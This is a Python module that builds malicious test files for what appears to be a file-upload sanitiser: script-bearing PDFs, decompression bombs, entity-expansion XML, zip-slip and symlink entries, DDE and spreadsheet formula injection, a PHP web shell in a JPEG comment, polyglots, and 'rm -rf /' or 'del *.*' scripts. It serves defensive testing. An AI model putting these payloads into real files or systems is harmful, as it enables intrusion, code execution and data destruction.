"""Files made to harm, each a `name: bytes`; built here, so that none of them lies in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from PIL import Image, PngImagePlugin

from .ordinary import (
    TYPES,
    attach,
    docx,
    open_document,
    pdf,
    picture,
    pptx,
    relationship,
    relationships,
    types,
    xlsx,
    zipped,
)

Files = dict[str, Callable[[], bytes]]
PROGRAM = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode."
PAGE = b"<html><script>alert(document.domain)</script></html>"
EVIL = b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><a>&b;</a>"


def action(**entries: object) -> Callable[[pikepdf.Pdf], None]:
    """Return what makes a PDF act when it is opened."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(**entries)  # type: ignore[arg-type]

    return change


def annotation(subtype: str, **entries: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[0, 0, 9, 9], **entries)  # type: ignore[arg-type]
        document.pages[0].Annots = pikepdf.Array([note])

    return change


def deep_script(document: pikepdf.Pdf) -> None:
    """Hide a script four dictionaries down, in a page's additional actions."""
    act = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.GoTo, Next=pikepdf.Array([act])))


def xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(b"<xdp/>"))


def swelling(document: pikepdf.Pdf) -> None:
    packed = zlib.compress(bytes(200_000_000), 9)
    document.pages[0].Contents = document.make_stream(packed, Filter=pikepdf.Name.FlateDecode)


def nested_swelling(document: pikepdf.Pdf) -> None:
    packed = zlib.compress(zlib.compress(bytes(300_000_000), 9), 9)
    both = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    document.pages[0].Contents = document.make_stream(packed, Filter=both)


def huge_picture(document: pikepdf.Pdf) -> None:
    image = document.make_stream(
        b"x", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=60_000, Height=60_000, BitsPerComponent=8
    )
    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=image))


def outside_stream(document: pikepdf.Pdf) -> None:
    document.pages[0].Contents = document.make_stream(b"", F=pikepdf.String("/etc/passwd"))


def escaped_script() -> bytes:
    """Write the name of the script in hexadecimal, as readers understand and naive searches do not."""
    marked = pdf(action(S=pikepdf.Name("/JavaScripu"), JX=pikepdf.String("app.alert(1)")))
    return marked.replace(b"/JavaScripu", b"/J#61vaScript").replace(b"/JX", b"/#4aS").replace(b"%%EOF", b"%%EOF")


def png_bomb() -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack("!L", len(content)) + kind + content + struct.pack("!L", zlib.crc32(kind + content))

    header = struct.pack("!LLBBBBB", 50_000, 50_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(6_251 * 50_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def png_with_a_page() -> bytes:
    target, info = io.BytesIO(), PngImagePlugin.PngInfo()
    info.add_text("Comment", PAGE.decode())
    Image.new("RGB", (9, 9)).save(target, "PNG", pnginfo=info)
    return target.getvalue()


def entry(name: str, content: bytes = b"x", **fields: object) -> bytes:
    """Return a document with one entry more, described at will."""
    target = io.BytesIO(docx())
    with zipfile.ZipFile(target, "a") as archive:
        info = zipfile.ZipInfo(name)
        for field, value in fields.items():
            setattr(info, field, value)
        archive.writestr(info, content)
    return target.getvalue()


def twice() -> bytes:
    target = io.BytesIO(docx())
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr("WORD/document.xml", "<b/>")
    return target.getvalue()


def locked() -> bytes:
    """Mark every entry as encrypted."""
    content = bytearray(docx())
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(magic)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(magic, place + 4)
    return bytes(content)


def lying_sizes() -> bytes:
    """Announce a small size for a part that opens to 60 MB."""
    content = bytearray(docx({"word/media/a.xml": bytes(60_000_000)}))
    place = content.find(b"PK\x01\x02", content.rfind(b"word/media/a.xml") - 60)
    content[place + 24 : place + 28] = struct.pack("<L", 1000)
    return bytes(content)


def many_entries() -> bytes:
    return docx({f"word/media/{number}.png": b"" for number in range(6_000)})


def rels(kind: str, target: str) -> bytes:
    return docx({"word/_rels/document.xml.rels": relationships(relationship(kind, target, is_outside=True))})


def field(*runs: str) -> bytes:
    return docx(body="".join(f"<w:instrText>{run}</w:instrText>" for run in runs))


def starts_calc(book: object) -> None:
    book.worksheets()[0].write_formula(5, 5, "=cmd|' /C calc'!A0")  # type: ignore[attr-defined]


def iso() -> bytes:
    return bytes(0x8001) + b"CD001" + bytes(2048)


PDFS: Files = {
    "script.pdf": lambda: pdf(action(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))),
    "script écrit autrement.pdf": escaped_script,
    "script profond.pdf": lambda: pdf(deep_script),
    "script compressé.pdf": lambda: pdf(deep_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "lance.pdf": lambda: pdf(action(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))),
    "envoie.pdf": lambda: pdf(action(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://exemple.invalid"))),
    "importe.pdf": lambda: pdf(action(S=pikepdf.Name.ImportData, F=pikepdf.String("a.fdf"))),
    "renvoie.pdf": lambda: pdf(action(S=pikepdf.Name.GoToR, F=pikepdf.String("//exemple.invalid/a"), D=[0])),
    "joint.pdf": lambda: pdf(lambda made: attach(made, "a.exe", PROGRAM)),
    "fausse facture.pdf": lambda: pdf(lambda made: attach(made, "factur-x.xml", PROGRAM)),
    "facture qui gonfle.pdf": lambda: pdf(lambda made: attach(made, "factur-x.xml", EVIL)),
    "annotation jointe.pdf": lambda: pdf(annotation("/FileAttachment")),
    "média.pdf": lambda: pdf(annotation("/RichMedia", RichMediaContent=pikepdf.Dictionary())),
    "écran.pdf": lambda: pdf(annotation("/Screen")),
    "formulaire xfa.pdf": lambda: pdf(xfa),
    "bombe.pdf": lambda: pdf(swelling, compress_streams=False),
    "bombe double.pdf": lambda: pdf(nested_swelling, compress_streams=False),
    "image démesurée.pdf": lambda: pdf(huge_picture),
    "lit un fichier.pdf": lambda: pdf(outside_stream, compress_streams=False),
    "mot de passe.pdf": lambda: pdf(encryption=pikepdf.Encryption(owner="x", user="y")),
    "suivi d’une archive.pdf": lambda: pdf() + zipped({"a.exe": PROGRAM}),
    "suivi d’une page.pdf": lambda: pdf() + PAGE,
    "précédé d’une page.pdf": lambda: PAGE + pdf(),
    "page en tête.pdf": lambda: pdf().replace(b"\n", b"\n%" + PAGE + b"\n", 1),
    "tronqué.pdf": lambda: pdf(pages=9)[:400],
}
PICTURES: Files = {
    "bombe.png": png_bomb,
    "page cachée.png": png_with_a_page,
    "suivi d’une archive.png": lambda: picture("PNG") + zipped({"a.exe": PROGRAM}),
    "suivi d’un programme.png": lambda: picture("PNG") + PROGRAM,
    "commentaire.jpg": lambda: picture("JPEG", comment=b"<?php system($_GET[0]); ?>"),
    "suivi d’une archive.jpg": lambda: picture("JPEG") + zipped({"a.class": b"\xca\xfe\xba\xbe"}),
    "suivi d’un pdf.jpg": lambda: picture("JPEG") + pdf(),
    "suivi d’un programme.webp": lambda: picture("WEBP") + PROGRAM,
    "tronquée.jpg": lambda: picture("JPEG")[:300],
    "gif et page.gif": lambda: b"GIF89a/*" + PAGE,
    "dessin.svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "dessin déguisé.png": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
}
OFFICE: Files = {
    "macros.docx": lambda: docx({"word/vbaProject.bin": b"x"}),
    "macros déclarées.docx": lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "modèle.docx": lambda: docx(main=f"{TYPES}wordprocessingml.template.main+xml"),
    "modèle extérieur.docx": lambda: rels("attachedTemplate", "https://exemple.invalid/a.dotm"),
    "image extérieure.docx": lambda: rels("image", "//exemple.invalid/a.png"),
    "objet extérieur.docx": lambda: rels("oleObject", "mhtml:https://exemple.invalid/x!x"),
    "lien qui exécute.docx": lambda: rels("hyperlink", "javascript:alert(1)"),
    "lien vers un partage.docx": lambda: rels("hyperlink", "file://exemple.invalid/partage"),
    "morceau de page.docx": lambda: docx({"word/a.mht": PAGE}),
    "objet.docx": lambda: docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
    "objet déguisé.docx": lambda: docx({"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
    "programme dedans.docx": lambda: docx({"word/media/image1.png": PROGRAM}),
    "contrôle.docx": lambda: docx({"word/activeX/activeX1.xml": "<a/>"}),
    "champ dde.docx": lambda: field('DDEAUTO c:\\windows\\cmd.exe "/k calc"'),
    "champ dde en morceaux.docx": lambda: field("DD", "EAU", "TO cmd"),
    "entités.docx": lambda: docx({"word/styles.xml": EVIL}),
    "entités en utf-16.docx": lambda: docx({"word/styles.xml": EVIL.decode().encode("utf-16")}),
    "glissement.docx": lambda: entry("../../../etc/cron.d/a"),
    "glissement à l’envers.docx": lambda: entry("..\\..\\a.dll"),
    "chemin absolu.docx": lambda: entry("/etc/passwd"),
    "lien symbolique.docx": lambda: entry("word/a", b"/etc/passwd", create_system=3, external_attr=0o120777 << 16),
    "nom retourné.docx": lambda: entry("word/a\u202excod.exe"),
    "deux fois.docx": twice,
    "chiffré.docx": locked,
    "bombe.docx": lambda: docx({"word/a.xml": bytes(80_000_000)}),
    "tailles qui mentent.docx": lying_sizes,
    "trop d’entrées.docx": many_entries,
    "précédé d’un programme.docx": lambda: PROGRAM + docx(),
    "suivi d’une page.docx": lambda: docx() + PAGE,
    "deux archives.docx": lambda: zipped({"a.txt": b"a"}) + docx(),
    "lance calc.xlsx": lambda: xlsx(starts_calc),
    "feuille de macros.xlsx": lambda: zipped(
        {
            "[Content_Types].xml": types(f"{TYPES}spreadsheetml.sheet.main+xml", "xl/workbook.xml"),
            "xl/workbook.xml": "<a/>",
            "xl/macrosheets/sheet1.xml": "<a/>",
        }
    ),
    "lien vers un classeur.xlsx": lambda: zipped(
        {
            "[Content_Types].xml": types(f"{TYPES}spreadsheetml.sheet.main+xml", "xl/workbook.xml"),
            "xl/workbook.xml": "<a/>",
            "xl/externalLinks/externalLink1.xml": "<a/>",
        }
    ),
    "macro.pptx": lambda: pptx({"ppt/vbaProject.bin": b"x"}),
    "basic.odt": lambda: open_document("text", {"Basic/Standard/Module1.xml": "<a/>"}),
    "python.odt": lambda: open_document("text", {"Scripts/python/a.py": "import os"}),
    "événement.odt": lambda: open_document("text", body='<script:event-listener script:event-name="dom:load"/>'),
    "image extérieure.odt": lambda: open_document("text", body='<draw:image xlink:href="https://exemple.invalid/a"/>'),
    "lien de macro.odt": lambda: open_document("text", body='<text:a xlink:href="vnd.sun.star.script:a"/>'),
    "chargé d’ailleurs.ods": lambda: open_document("spreadsheet", body='<table:s xlink:href="file:///etc/passwd"/>'),
    "chiffré.odt": lambda: open_document(
        "text", {"META-INF/manifest.xml": '<m:a xmlns:m="urn:manifest"><m:encryption-data/></m:a>'}
    ),
}
OTHERS: Files = {
    "facture.pdf": lambda: PROGRAM,
    "facture.pdf.exe": lambda: PROGRAM,
    "programme.docx": lambda: b"\x7fELF" + bytes(99),
    "../../etc/passwd.txt": lambda: b"root:x\x00:0",
    "fdp\u202etxt.exe": lambda: PROGRAM,
    "a\r\nSet-Cookie: x.html": lambda: PAGE,
    "page.txt": lambda: b"Bonjour\n" * 9000 + PAGE,
    "page en utf-16.txt": lambda: PAGE.decode().encode("utf-16"),
    "nul.csv": lambda: b"a;b\n1;\x00\n",
    "lance.csv": lambda: b"nom;montant\n=cmd|' /C calc'!A0;3\n",
    "vide.pdf": lambda: b"",
    "ancien.doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "lettre.rtf": lambda: b"{\\rtf1 {\\object\\objdata 01}}",
    "raccourci.lnk": lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(99),
    "raccourci.url": lambda: b"[InternetShortcut]\r\nURL=file://exemple.invalid/a\r\n",
    "script.bat": lambda: b"@echo off\r\ndel *.*\r\n",
    "script.txt": lambda: b"#!/bin/sh\nrm -rf /\n",
    "disque.iso": iso,
    "disque.csv": iso,
    "archive.zip": lambda: zipped({"a.txt": b"a"}),
    "archive.jar": lambda: zipped({"META-INF/MANIFEST.MF": b"Main-Class: A"}),
    "archive.pdf": lambda: zipped({"a.exe": PROGRAM}),
    "archive.7z": lambda: b"7z\xbc\xaf'\x1c" + bytes(99),
}
FILES: Files = PDFS | PICTURES | OFFICE | OTHERS
